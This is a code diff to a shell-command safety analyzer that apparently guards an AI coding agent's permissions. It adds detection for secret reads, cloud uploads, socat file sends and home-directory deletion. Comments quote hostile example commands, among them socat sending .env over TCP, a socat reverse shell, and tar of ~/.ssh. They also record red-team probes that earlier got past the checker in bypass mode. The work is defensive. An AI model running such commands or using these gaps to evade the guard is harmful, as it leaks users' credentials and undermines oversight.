@@ -2714,7 +2714,8 @@ _RECURSIVE_READERS: dict[str, tuple[str | None, tuple[str, ...]]] = {
     "grep": ("rR", ("recursive", "dereference-recursive")), "egrep": ("rR", ("recursive", "dereference-recursive")),
     "fgrep": ("rR", ("recursive", "dereference-recursive")), "rg": (None, ()), "ag": (None, ()), "ack": (None, ()),
     "diff": ("r", ("recursive",)), "cp": ("rRa", ("recursive", "archive")), "zip": ("r", ("recurse-paths",)),
-    "tar": (None, ()), "rsync": ("ra", ("recursive", "archive")), "scp": ("r", ()),
+    "tar": (None, ()), "gtar": (None, ()), "bsdtar": (None, ()), "pax": (None, ()),
+    "rsync": ("ra", ("recursive", "archive")), "scp": ("r", ()),
     # archivers and copiers that always take a directory whole (probe round 21)
     "7z": (None, ()), "7za": (None, ()), "7zr": (None, ()), "rar": (None, ()), "ditto": (None, ()),
     "rclone": (None, ()),
@@ -3040,6 +3041,33 @@ _FD_VALUE_OPTS = frozenset({"-t", "--type", "-e", "--extension", "-d", "--max-de
                             "-E", "--exclude", "-S", "--size", "--changed-within", "--changed-before", "-o", "--owner",
                             "-j", "--threads", "--max-results", "--base-directory", "--path-separator",
                             "--search-path", "-x", "--exec", "-X", "--exec-batch", "--color", "-c", "--ignore-file"})
+
+
+# (probe round 44, redteam44) cloud storage copies: the program, its copy/sync verbs
+_CLOUD_COPIES = {"aws": frozenset({"cp", "sync", "mv"}), "gsutil": frozenset({"cp", "rsync", "mv"}),
+                 "gcloud": frozenset({"cp", "rsync", "mv"}), "az": frozenset({"upload", "upload-batch", "sync"}),
+                 "azcopy": frozenset({"copy", "cp", "sync"}), "rclone": frozenset({"copy", "sync", "move", "copyto",
+                                                                                  "moveto", "bisync"}),
+                 "s3cmd": frozenset({"put", "sync"}), "kubectl": frozenset({"cp"}), "oc": frozenset({"cp"})}
+# a bucket's URL, an https endpoint, rclone's remote:path, kubectl's [ns/]pod:path
+_CLOUD_REMOTE = re.compile(r"(?:s3|gs|az|azure|https?|r2|b2|oss|cos)://|[A-Za-z0-9_.-]{2,}(?:/[A-Za-z0-9_.-]+)?:(?!//)")
+# socat's file addresses (FILE:F, OPEN:F, GOPEN:F), their options after a comma
+_SOCAT_FILE = re.compile(r"(?i)(?:file|open|gopen):([^,]+)")
+# (probe round 44, redteam44) programs that read the working directory's .env when no
+# other file is named: python-dotenv's and dotenv-cli's dotenv, dotenvx
+_DOTENV_LOADERS = frozenset({"dotenv", "dotenvx", "dotenv-cli"})
+
+
+def _names_env_file(vals: list[str]) -> bool:
+    """Does a dotenv loader's command line (up to --) name the file it reads (-f F,
+    --file=F, -e F, --env-file F)?"""
+    for v in vals:
+        if v == "--":
+            return False
+        if v in ("-f", "--file", "-e", "--env-file") or v.startswith(("--file=", "--env-file=")) \
+                or (v[:2] in ("-f", "-e") and len(v) > 2):
+            return True
+    return False
 
 
 def _fd_listing(vals: list[str], here: str, abs_path) -> tuple[str, ...] | None:
@@ -5329,6 +5357,8 @@ class _Analyzer:
         directory above the home reads what is in it, ~/.ssh included: it counts as a
         read of the sensitive files it holds."""
         short_rec, long_rec = _RECURSIVE_READERS[name]
+        if name == "pax" and not any(v.startswith("-") and not v.startswith("--") and "w" in v for v in vals):
+            return   # (pax writes an archive of its operands with -w; else it lists or reads one)
         if short_rec is not None:
             recursive = False
             for v in vals:
@@ -5680,6 +5710,70 @@ class _Analyzer:
             self.add_read(entry)
             if name == "find" and glob.lower() != glob:
                 self.add_read(top.rstrip("/") + "/**/" + glob.lower())   # (-iname ID_RSA)
+
+    def dotenv_default_read(self, vals: list[str], part: str) -> None:
+        """(probe round 44, redteam44) dotenv list/get/run, dotenvx get/run (bare, through
+        npx or python -m): the working directory's .env, read when no other file is named."""
+        if _names_env_file(vals):
+            return
+        p = self.abs_path(_static(".env"))
+        if p:
+            self.add_read(p)
+        else:
+            self.risk(UNKNOWN_READ, part)
+            self.read_only = False
+
+    def fd_exec_reads(self, argv: list[_Word], part: str) -> None:
+        """(probe round 44, redteam44) fd -x CMD / -X CMD runs CMD on every file it finds:
+        each search root (the working directory when none is named) is read whole as far as
+        an operator's Read rule goes, as find ROOT -exec CMD {} + is (fd -H -x cat read .env
+        under Read(./.env), allowed in bypass); without -H/-u fd skips hidden files, as rg
+        does (a visible tree); a root only known at run time is an unknown read."""
+        vals = [w.value if w.exact else C.UNKNOWN_WORD for w in argv[1:]]
+
+        def runs(v: str) -> bool:
+            return v.startswith(("--exec", "--exec-batch")) if v[:2] == "--" else (
+                v[:1] == "-" and ("x" in v or "X" in v))
+        if not any(map(runs, vals)):
+            return
+        pattern, starts, hidden, k = None, [], False, 0
+        while k < len(vals):
+            v = vals[k]
+            if runs(v):
+                # (the command and its words follow; -Hx cat: the letters before x count)
+                hidden = hidden or (v[1:2] != "-" and any(c in "Hu" for c in re.split("[xX]", v, maxsplit=1)[0]))
+                break
+            if v in ("--search-path", "--base-directory"):
+                starts.append(vals[k + 1] if k + 1 < len(vals) else C.UNKNOWN_WORD)
+                if v == "--base-directory":
+                    starts.append(C.UNKNOWN_WORD)   # (the roots are below another directory)
+                k += 2
+                continue
+            if v.startswith(("--search-path=", "--base-directory=")):
+                starts.append(v.split("=", 1)[1])
+                k += 1
+                continue
+            if v in _FD_VALUE_OPTS:
+                k += 2
+                continue
+            if v.startswith("--"):
+                hidden = hidden or C.long_hits(v[2:].split("=", 1)[0], ("hidden", "unrestricted"))
+            elif v.startswith("-") and len(v) > 1:
+                hidden = hidden or "H" in v or "u" in v
+            elif pattern is None:
+                pattern = v
+            else:
+                starts.append(v)
+            k += 1
+        for s in starts or ["."]:
+            p = None if s == C.UNKNOWN_WORD else self.abs_path(_Word(value=s, tilde=s.startswith("~")))
+            if p is None:
+                self.risk(UNKNOWN_READ, part)
+                self.read_only = False
+                continue
+            self.whole_read(p, rule_only=True)
+            if not hidden and p not in self.visible_trees:
+                self.visible_trees.append(p)
 
     def add_read(self, path: str) -> None:
         if path not in self.read_paths:
@@ -6374,7 +6468,9 @@ class _Analyzer:
             return
         if t == "herestring_redirect":
             words = [self.word(c, ctx) for c in node.children if c.type in _WORD_TYPES]
-            w = words[0] if words else _static("")
+            # (bash expands a here-string's unquoted tilde: read f <<< ~/.ssh/id_rsa reads
+            # the home's path; probe round 44, redteam44)
+            w = self.tilde_expanded(words[0]) if words else _static("")
             redirs.append(_Redir(op="<<<", target=None, fd=fd, writes=False,
                                  text=(w.value + "\n") if w.exact else None, dynamic_text=not w.exact,
                                  fetch=w.fetch, file=w.file, holds=() if w.file else w.holds, coded=w.coded, names=w.lister if isinstance(w.lister, _Whole)
@@ -6840,9 +6936,10 @@ class _Analyzer:
                     if text.startswith("[") and "]=" in text and not assoc:
                         self.arith_text(text[1:text.index("]=")], ctx)
                 # (b=($a): an unquoted expansion is split on IFS into elements, as bash does)
+                # (an element's unquoted tilde is expanded: a=(~/.ssh/id_rsa); probe round 44)
                 elements = [w for el in child.children if el.type in _WORD_TYPES
                             for w in (self.words(el, ctx) if el.type in ("simple_expansion", "expansion")
-                                      else [self.word(el, ctx)])]
+                                      else [self.tilde_expanded(self.word(el, ctx))])]
                 if len(elements) == 1 and elements[0].exact:
                     # a=(/): one element, known: "${a[@]}" and "$a" are that word
                     value = _Word(value=elements[0].value, dynamic=True, exact=True)
@@ -6850,7 +6947,19 @@ class _Analyzer:
                     value = _Word(value=self._t(child), dynamic=True, exact=False)
             elif t == "ERROR":
                 raise _Unparseable(ERR_SYNTAX)
-        self.track_array(name, any(c.type == "+=" for c in node.children), value, elements)
+        append = any(c.type == "+=" for c in node.children)
+        if append and elements is None and value is not None and name and "[" not in name:
+            # (probe round 44, redteam44) f=/ho; f+=me/u: f is /home/u, the old value with
+            # the new text after it (it was read as me/u alone, inside the project); an
+            # old value set here but not known makes it unknown (a name not set here
+            # keeps the text alone, the empty value bash gives an unset one, and so does
+            # a number, n=$(wc -l < f); n+=TEXT: only TEXT can hold code for $((n)))
+            old = self.vars.get(name)
+            if old is not None and value.exact and not value.guess and name not in self.guess_vars:
+                value = _Word(value=old + value.value, dynamic=True, exact=True)
+            elif (old is not None or name in self.assigned) and name not in self.int_vars:
+                value = _Word(value=self._t(node), dynamic=True, exact=False)
+        self.track_array(name, append, value, elements)
         if "[" in name and value is not None and value.exact and _LIVE_MARKS.search(value.value) \
                 and len(self.element_code) < 32:
             # m[k]='a[$(cmd)]'; $(( m[k] )): arithmetic evaluates the element's text
@@ -10672,7 +10781,10 @@ class _Analyzer:
                     if name == "printf" and len(argv) > 3 and argv[1].value == "-v" and _VAR_NAME.fullmatch(argv[2].value) \
                             and all(w.exact for w in argv[1:]):
                         # printf -v d '%s' /: d is the text printf makes (probe round 32)
-                        made = _printf_text(argv[3].value, [w.value for w in argv[4:]])
+                        # (a word's unquoted tilde is expanded before printf sees it: printf
+                        # -v h %s ~ is the home; probe round 44, redteam44)
+                        texts = [self.tilde_expanded(w).value for w in argv[3:]]
+                        made = _printf_text(texts[0], texts[1:])
                         if made is not None:
                             self.set_var(argv[2].value, _Word(value=made, dynamic=True, exact=True), data=False)
                             self.special_set(argv[2].value, _Word(value=made, dynamic=True, exact=True))
@@ -11017,6 +11129,8 @@ class _Analyzer:
                 self.build_outputs.update(self.write_paths[n_writes:])
             if name in ("find", "fd", "fdfind") and not dynamic_name and all(w.exact for w in argv[1:]):
                 self.name_search_outside(name, vals)
+            if name in ("fd", "fdfind") and not dynamic_name:
+                self.fd_exec_reads(argv, text)
             if name in _COMMAND_LINE_OPTIONS and (name in _NOT_WRAPPERS or name == "cloc") and not dynamic_name:
                 self.probe_command_line_options(name, [w.value if w.exact else "" for w in argv], ctx)
             if name in _CODE_IN_WORDS and not dynamic_name:
@@ -11826,8 +11940,12 @@ class _Analyzer:
         stack = [self.cwd] + self.dirstack   # bash's DIRSTACK: [0] is the working directory
 
         def target(value: str) -> str | None:
-            if (cdpath or "CDPATH" in self.vars or "CDPATH" in self.assigned) and not value.startswith(("/", ".", "~")):
-                return None   # CDPATH may send a relative name anywhere (set to a value unknown here, too)
+            if (cdpath or "CDPATH" in self.vars or "CDPATH" in self.assigned) and not (
+                    value.startswith(("/", "./", "../", "~")) or value in (".", "..")):
+                # CDPATH may send a relative name anywhere (set to a value unknown here,
+                # too); bash skips it only for /x, ., .., ./x and ../x (absolute_pathname):
+                # CDPATH=~ cd .ssh is ~/.ssh (probe round 44, redteam44)
+                return None
             if through_links and ".." in value.split("/"):
                 return None
             return self.abs_path(_Word(value=value, tilde=value.startswith("~")))
@@ -12370,6 +12488,8 @@ class _Analyzer:
                 has_source = True
                 if name.startswith("python") and i + 1 < len(args):
                     self.served_module(args[i + 1], args[i + 2:])
+                    if args[i + 1].exact and args[i + 1].value in _DOTENV_LOADERS:
+                        self.dotenv_default_read([w.value for w in args[i + 2:]], text)   # (python -m dotenv list)
                 break
             if w.exact and (name.startswith("perl") or name.startswith("ruby")) and v.startswith("-") \
                     and not v.startswith("--") and len(v) > 2:
@@ -13108,6 +13228,10 @@ class _Analyzer:
         args = argv[1:]
         vals = [w.value for w in args]
         part = " ".join([name] + vals)
+        if name in _DOTENV_LOADERS:
+            self.dotenv_default_read(vals, part)
+        elif name in _CLOUD_COPIES:
+            self.cloud_upload(name, args, part)
         # read paths: operands that look like paths (not patterns, programs, messages)
         if name not in ("echo", "printf"):
             data = C.data_operands(name, vals)
@@ -14683,6 +14807,8 @@ class _Analyzer:
                                           or self.agent_settings_written(agent) or _split_unknown(rest, agent)
                                           or _AGENT_CONFIG_HOMES.get(agent, "") in self.assigned):
                 self.risk(UNGUARDED_AGENT, part)   # (npx @anthropic-ai/claude-code --dangerously-skip-permissions)
+            if tool in _DOTENV_LOADERS or tool == "@dotenvx/dotenvx":
+                self.dotenv_default_read([w.value for w in args[i + 1:]], part)   # (npx dotenv -- env)
             if tool in _NPX_DELETERS:
                 # (probe round 32, published6) npx rimraf ~, bunx del-cli ~, npx trash-cli ~:
                 # the package's deleter, as rimraf ~ and trash ~ run bare
@@ -15298,28 +15424,43 @@ class _Analyzer:
             archive = args[1]
         if create and archive is not None and archive.value != "-":
             self.add_write(self.abs_path(archive), part)
-        if create and any(v.startswith("--") and len(v) > 3 and C.long_hits(v[2:], ("remove-files",)) for v in vals):
-            # tar --remove-files -cf x.tar ~ deletes what it archived (probe round 32,
-            # published6): the members are the words no option takes
-            members, base, skip = [], None, False
+        if create:
+            # the members are the words no option takes, each read from the directory the
+            # last -C DIR before it names (tar -C ~ -cf - .ssh reads ~/.ssh, not ./.ssh;
+            # probe round 44, redteam44); a -C DIR only known at run time: unknown reads
+            members, base, skip, moved = [], None, False, False
             for i, w in enumerate(args):
                 v = w.value
                 if skip:
                     skip = False
-                    if vals[i - 1] in ("-C", "--directory"):
-                        base = self.abs_path(w)
+                    if vals[i - 1] == "--directory" or re.fullmatch(r"-[A-Za-z]*C", vals[i - 1]):
+                        base, moved = self.abs_path(w), True   # (-C DIR, -cvC DIR)
                     continue
                 if w is archive or (i == 0 and letters):
                     continue
                 if v.startswith("--directory="):
-                    base = self.abs_path(_Word(value=v.split("=", 1)[1], exact=w.exact, tilde=v.split("=", 1)[1].startswith("~")))
+                    base, moved = self.abs_path(_Word(value=v.split("=", 1)[1], exact=w.exact,
+                                                      tilde=v.split("=", 1)[1].startswith("~"))), True
                 elif v.startswith("--"):
                     skip = "=" not in v and v[2:] in _TAR_VALUED_LONG
+                elif v.startswith("-C") and len(v) > 2:
+                    base, moved = self.abs_path(_Word(value=v[2:], exact=w.exact)), True   # (-C/srv: glued)
                 elif v.startswith("-") and len(v) > 1:
                     skip = v[-1] in "fCTXbHKLNVg" and v not in ("-",)
                 else:
                     members.append(w)
-            if members:
+                    if moved and w.exact and not v.startswith(("/", "~")):
+                        if base is None:
+                            self.risk(UNKNOWN_READ, part)
+                            self.read_only = False
+                            continue
+                        p = _norm(base + "/" + v)
+                        self.add_read(p)
+                        self.whole_read(p)
+            if members and any(v.startswith("--") and len(v) > 3 and C.long_hits(v[2:], ("remove-files",))
+                               for v in vals):
+                # tar --remove-files -cf x.tar ~ deletes what it archived (probe round 32,
+                # published6)
                 self.removes_sources(members, part, base)
         if extract:
             where = self.abs_path(directory) if directory is not None else self.cwd
@@ -15333,6 +15474,8 @@ class _Analyzer:
                 where = self.abs_path(directory) if directory is not None else self.cwd
                 if where:
                     self.fetched_trees.add(where)
+
+    fx_gtar = fx_bsdtar = fx_tar   # (GNU tar on macOS, libarchive's tar: tar's options)
 
     def fx_unzip(self, args, vals, part, ctx, unknown_tail, stdin) -> None:
         if C.read_only("unzip", vals, unknown_tail):
@@ -15608,12 +15751,56 @@ class _Analyzer:
 
     fx_ncat_exe = fx_ncat
 
+    def cloud_upload(self, name: str, args: list[_Word], part: str) -> None:
+        """(probe round 44, redteam44) A cloud storage copy or sync from here to a bucket or
+        a remote (aws s3 sync . s3://b, gsutil -m rsync -r . gs://b, gcloud storage cp -r,
+        az storage blob upload-batch -s ., azcopy copy, rclone copy . remote:, s3cmd put):
+        each local source is read whole and leaves the machine, an upload (aws s3 sync .
+        s3://b was no upload and no read of .env: allowed in bypass under Read(./.env))."""
+        vals = [w.value if w.exact else C.UNKNOWN_WORD for w in args]
+        words = [v for v in vals if not v.startswith("-")]
+        verbs = _CLOUD_COPIES[name]
+        k = 0
+        while k < len(words) and words[k] not in verbs:
+            k += 1
+        if k == len(words) or k > 3:
+            return
+        if name == "az":
+            sources = [vals[j + 1] for j, v in enumerate(vals[:-1]) if v in ("-s", "--source", "-f", "--file")] + \
+                [v.split("=", 1)[1] for v in vals if v.startswith(("--source=", "--file="))]
+        else:
+            ops = [w for w in args[[a.value for a in args].index(words[k]) + 1:]
+                   if not (w.exact and w.value.startswith("-"))]
+            if len(ops) < 2 or not (not ops[-1].exact or _CLOUD_REMOTE.match(ops[-1].value)):
+                return   # (a download: the remote first, the local copy last)
+            sources = [w.value if w.exact else C.UNKNOWN_WORD for w in ops[:-1]
+                       if not (w.exact and _CLOUD_REMOTE.match(w.value))]
+        if not sources:
+            return
+        self.risk(UPLOAD, part)
+        for src in sources:
+            p = None if src == C.UNKNOWN_WORD else self.abs_path(_Word(value=src, tilde=src.startswith("~")))
+            if p is None:
+                self.risk(UNKNOWN_READ, part)
+                self.read_only = False
+                continue
+            self.add_read(p)
+            self.whole_read(p)
+
     def fx_socat(self, args, vals, part, ctx, unknown_tail, stdin) -> None:
         """socat joining a program (``EXEC:``, ``SYSTEM:``) to a network address (``TCP:``,
         ``TCP-LISTEN:``, ``OPENSSL:``, ``UDP:``...): the program is served to whoever is at
         the other end (``socat TCP-LISTEN:4444,fork EXEC:/bin/sh``, ``socat
         tcp-connect:h:443 exec:bash,pty``). A program known only at run time counts."""
         addrs = [w for w in args if not (w.exact and w.value.startswith("-") and w.value != "-")]
+        for w in addrs:
+            # (probe round 44, redteam44) FILE:F, OPEN:F, GOPEN:F: a file read (socat -u
+            # FILE:.env TCP:h:80 sends it)
+            m = _SOCAT_FILE.match(w.value) if w.exact else None
+            if m:
+                p = self.abs_path(_Word(value=m.group(1), tilde=m.group(1).startswith("~")))
+                if p:
+                    self.add_read(p)
         program = any(_SOCAT_PROGRAM.match(w.value) or (not w.exact and not _SOCAT_TYPED.match(w.value))
                       for w in addrs)
         network = any(not w.exact or _SOCAT_NETWORK.match(w.value) for w in addrs)
@@ -15969,6 +16156,20 @@ class _Analyzer:
                         where = p
             if forced and where is not None and where == self.cwd and self.classify(where):
                 self.cat(RM_ROOT, part) if self.classify(where) in ("root", "home") else self.danger(RM_SYSTEM, part)
+            for x in operands if forced else ():
+                # (probe round 44, redteam44) a pathspec is a tree it empties too: git clean
+                # -fdx ~ (or .., /) from a repository holding the home is git -C ~ clean -fdx
+                saved = self.cwd
+                self.cwd = where
+                try:
+                    p = self.abs_path(_Word(value=x, tilde=x.startswith("~")))
+                finally:
+                    self.cwd = saved
+                kind = self.classify(p) if p else None
+                if kind in ("root", "home"):
+                    self.cat(RM_ROOT, part)
+                elif kind == "system":
+                    self.danger(RM_SYSTEM, part)
         # pathspecs are matched as fnmatch does ('*env' is .env too, at any depth); a
         # names-only command (ls-files, log without a patch, branch/tag patterns) reads none
         data = C.data_operands("git", vals)
